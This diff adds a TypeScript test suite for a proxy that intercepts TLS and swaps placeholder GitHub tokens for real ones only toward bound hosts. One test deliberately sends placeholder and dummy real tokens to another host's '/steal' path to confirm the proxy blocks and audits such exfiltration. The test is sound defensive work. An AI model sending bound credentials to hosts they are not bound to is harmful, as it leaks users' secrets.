@@ -1,0 +1,168 @@
+// TLS interception and secret bindings, against a real HTTPS server on
+// loopback with its own test CA, through the real proxy, with curl as the client.
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { generateKeyPairSync, X509Certificate } from 'node:crypto';
+import { writeFileSync } from 'node:fs';
+import type { Server } from 'node:http';
+import { connect as netConnect, type AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import tls from 'node:tls';
+import { Interceptor } from '../../lib/proxy/intercept.js';
+import { createProxy, hostHeaderProblem } from '../../lib/proxy/server.js';
+import type { BoundSecret } from '../../lib/proxy/secrets.js';
+import { loadOrCreateCa } from '../../lib/tls/ca.js';
+import { LeafCache } from '../../lib/tls/leaves.js';
+import { buildCertificate, toPem } from '../../lib/tls/x509.js';
+import { tempHome } from '../helpers.js';
+
+const REAL = 'ghp_realRealRealRealRealRealReal0123456';
+const PH = 'ghp_SBPHplaceholderPlaceholderPlace01';
+const secrets: BoundSecret[] = [{ name: 'GITHUB_TOKEN', placeholder: PH, real: REAL, hosts: ['api.test'], inQuery: true, allowPlaintext: false }];
+
+function testCa() {
+  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
+  const now = new Date();
+  const certPem = toPem(buildCertificate({ subjectCN: 'upstream test CA', issuerCN: 'upstream test CA', org: 'test', publicKey, signingKey: privateKey, issuerPublicKey: publicKey, notBefore: new Date(+now - 3600e3), notAfter: new Date(+now + 864e5), ca: true }));
+  return { name: { cn: 'upstream test CA', org: 'test' }, key: privateKey, publicKey, certPem, certFile: '' };
+}
+
+function curl(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
+  return new Promise((resolve) => {
+    const c = spawn('curl', ['-sS', '--max-time', '10', ...args]);
+    let stdout = '';
+    let stderr = '';
+    c.stdout.on('data', (d: Buffer) => (stdout += String(d)));
+    c.stderr.on('data', (d: Buffer) => (stderr += String(d)));
+    c.on('close', (code) => resolve({ code, stdout, stderr }));
+  });
+}
+
+describe('TLS interception and secrets (real HTTPS upstream, curl)', () => {
+  const t = tempHome();
+  const seen: Array<{ path: string; host?: string; auth?: string; ae?: string }> = [];
+  const audit: Array<Record<string, unknown>> = [];
+  let upstream: tls.Server & Server;
+  let proxy: Server;
+  let upPort = 0;
+  let proxyUrl = '';
+  let caFile = '';
+  let interceptor: Interceptor;
+
+  before(async () => {
+    const upCa = testCa();
+    const leaf = new LeafCache(upCa).get('api.test');
+    const otherLeaf = new LeafCache(upCa).get('other.test');
+    const https = await import('node:https');
+    upstream = https.createServer({ key: leaf.keyPem, cert: leaf.certPem, SNICallback: (name, cb) => cb(null, tls.createSecureContext(name === 'other.test' ? { key: otherLeaf.keyPem, cert: otherLeaf.certPem } : { key: leaf.keyPem, cert: leaf.certPem })) }, (req, res) => {
+      seen.push({ path: req.url ?? '', host: req.headers.host, auth: req.headers.authorization, ae: req.headers['accept-encoding'] as string });
+      res.setHeader('X-Echo-Auth', req.headers.authorization ?? '');
+      res.end(`you sent ${req.headers.authorization ?? ''} ${req.url}\n`);
+    }) as never;
+    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
+    upPort = (upstream.address() as AddressInfo).port;
+    const ca = await loadOrCreateCa(t.sbHome);
+    caFile = join(t.dir, 'stashbase-ca.pem');
+    writeFileSync(caFile, ca.certPem);
+    interceptor = new Interceptor({ leaves: new LeafCache(ca), secrets, upstreamCa: [...tls.rootCertificates, upCa.certPem], audit: (e) => audit.push(e) }, hostHeaderProblem);
+    const mapped = { 'api.test': `127.0.0.1:${upPort}`, 'other.test': `127.0.0.1:${upPort}` };
+    proxy = createProxy({ policy: { egressHosts: ['api.test', 'other.test'], denyHosts: [], mapped }, audit: (e) => audit.push(e), interceptor });
+    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
+    proxyUrl = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
+  });
+  after(() => {
+    interceptor.close();
+    proxy.close();
+    upstream.close();
+    t.cleanup();
+  });
+
+  const via = (url: string, extra: string[] = []) => curl(['--proxy', proxyUrl, '--suppress-connect-headers', '--cacert', caFile, ...extra, url]);
+
+  test('the placeholder becomes the real value toward the bound host, and the real value never comes back', async () => {
+    seen.length = 0;
+    const r = await via(`https://api.test:${upPort}/user`, ['-H', `Authorization: Bearer ${PH}`, '-D', '-']);
+    assert.equal(r.code, 0, r.stderr);
+    assert.deepEqual(seen, [{ path: '/user', host: `api.test:${upPort}`, auth: `Bearer ${REAL}`, ae: 'identity' }], r.stdout + r.stderr);
+    assert.match(r.stdout, new RegExp(`\\r\\nx-echo-auth: Bearer ${PH}\\r\\n`, 'i'));
+    assert.match(r.stdout, new RegExp(`you sent Bearer ${PH} /user\\n$`));
+    assert.doesNotMatch(r.stdout, new RegExp(REAL));
+    const e = audit.find((x) => x.path === '/user' && x.decision === 'allow');
+    assert.deepEqual(e?.injected, ['GITHUB_TOKEN']);
+    assert.doesNotMatch(JSON.stringify(audit), new RegExp(REAL));
+  });
+
+  test('Basic credentials are decoded, substituted and re-encoded', async () => {
+    seen.length = 0;
+    const r = await via(`https://api.test:${upPort}/basic`, ['-u', `x-access-token:${PH}`]);
+    assert.equal(r.code, 0, r.stderr);
+    assert.equal(seen[0]?.auth, `Basic ${Buffer.from(`x-access-token:${REAL}`).toString('base64')}`);
+  });
+
+  test('query strings are substituted where the profile opts in', async () => {
+    seen.length = 0;
+    await via(`https://api.test:${upPort}/q?token=${PH}`);
+    assert.equal(seen[0]?.path, `/q?token=${REAL}`);
+  });
+
+  test('a placeholder or the real value headed to another (allowed) host is blocked and audited', async () => {
+    seen.length = 0;
+    for (const value of [PH, REAL]) {
+      const r = await via(`https://other.test:${upPort}/steal`, ['-H', `X-Token: ${value}`, '-D', '-']);
+      assert.match(r.stdout, /^HTTP\/1\.1 403 Forbidden\r\n/);
+    }
+    const basic = await via(`https://other.test:${upPort}/steal`, ['-u', `u:${REAL}`, '-D', '-']);
+    assert.match(basic.stdout, /^HTTP\/1\.1 403 Forbidden\r\n/);
+    const url = await via(`https://other.test:${upPort}/steal?t=${PH}`, ['-D', '-']);
+    assert.match(url.stdout, /^HTTP\/1\.1 403 Forbidden\r\n/);
+    assert.deepEqual(seen, []);
+    const blocked = audit.filter((x) => x.exfiltration === true);
+    assert.equal(blocked.length, 4);
+    assert.deepEqual(blocked.map((x) => x.rule), [
+      'the placeholder of GITHUB_TOKEN headed to other.test (X-Token), which it is not bound to',
+      'the real value of GITHUB_TOKEN headed to other.test (X-Token), which it is not bound to',
+      'the real value of GITHUB_TOKEN headed to other.test (Authorization: Basic), which it is not bound to',
+      'a value of GITHUB_TOKEN in the URL headed to other.test, which it is not bound to',
+    ]);
+  });
+
+  test('inside a tunnel: a different Host, absolute-form and duplicate Authorization are refused', async () => {
+    seen.length = 0;
+    const host = await via(`https://api.test:${upPort}/h`, ['-H', 'Host: other.test', '-D', '-', '-H', `Authorization: Bearer ${PH}`]);
+    assert.match(host.stdout, /^HTTP\/1\.1 400 Bad Request\r\n[\s\S]*Host header differs from the request target/);
+    const abs = await via(`https://api.test:${upPort}/x`, ['--request-target', `https://api.test:${upPort}/x`, '-D', '-']);
+    assert.match(abs.stdout, /^HTTP\/1\.1 400 Bad Request\r\n[\s\S]*absolute-form request inside a tunnel/);
+    const dup = await via(`https://api.test:${upPort}/d`, ['-H', 'Authorization: a', '-H', 'Authorization: b', '-D', '-']);
+    assert.match(dup.stdout, /^HTTP\/1\.1 400 Bad Request\r\n[\s\S]*duplicate Authorization header/);
+    assert.deepEqual(seen, []);
+  });
+
+  test('the leaf is for the CONNECT target, whatever SNI the client sends; only http/1.1 is offered', async () => {
+    const proxyPort = Number(new URL(proxyUrl).port);
+    const cert = await new Promise<{ san: string; alpn: string | false | null }>((resolve, reject) => {
+      const raw = netConnect(proxyPort, '127.0.0.1', () => raw.write(`CONNECT api.test:${upPort} HTTP/1.1\r\nHost: api.test:${upPort}\r\n\r\n`));
+      raw.once('data', () => {
+        const s = tls.connect({ socket: raw, servername: 'other.test', ALPNProtocols: ['h2', 'http/1.1'], rejectUnauthorized: false }, () => {
+          resolve({ san: new X509Certificate(s.getPeerCertificate(true).raw).subjectAltName ?? '', alpn: s.alpnProtocol });
+          s.destroy();
+        });
+        s.on('error', reject);
+      });
+    });
+    assert.deepEqual(cert, { san: 'DNS:api.test', alpn: 'http/1.1' });
+  });
+
+  test('an upstream whose certificate does not verify gets nothing', async () => {
+    const ca = await loadOrCreateCa(t.sbHome);
+    const strict = new Interceptor({ leaves: new LeafCache(ca), secrets, upstreamCa: [...tls.rootCertificates], audit: () => {} }, hostHeaderProblem);
+    const p2 = createProxy({ policy: { egressHosts: ['api.test'], denyHosts: [], mapped: { 'api.test': `127.0.0.1:${upPort}` } }, audit: () => {}, interceptor: strict });
+    await new Promise<void>((r) => p2.listen(0, '127.0.0.1', r));
+    seen.length = 0;
+    const r = await curl(['--proxy', `http://127.0.0.1:${(p2.address() as AddressInfo).port}`, '--suppress-connect-headers', '--cacert', caFile, '-D', '-', `https://api.test:${upPort}/x`, '-H', `Authorization: Bearer ${PH}`]);
+    strict.close();
+    p2.close();
+    assert.match(r.stdout, /^HTTP\/1\.1 502 Bad Gateway\r\n[\s\S]*upstream api\.test: (UNABLE_TO_VERIFY_LEAF_SIGNATURE|SELF_SIGNED_CERT_IN_CHAIN|UNABLE_TO_GET_ISSUER_CERT_LOCALLY)/);
+    assert.deepEqual(seen, []);
+  });
+});
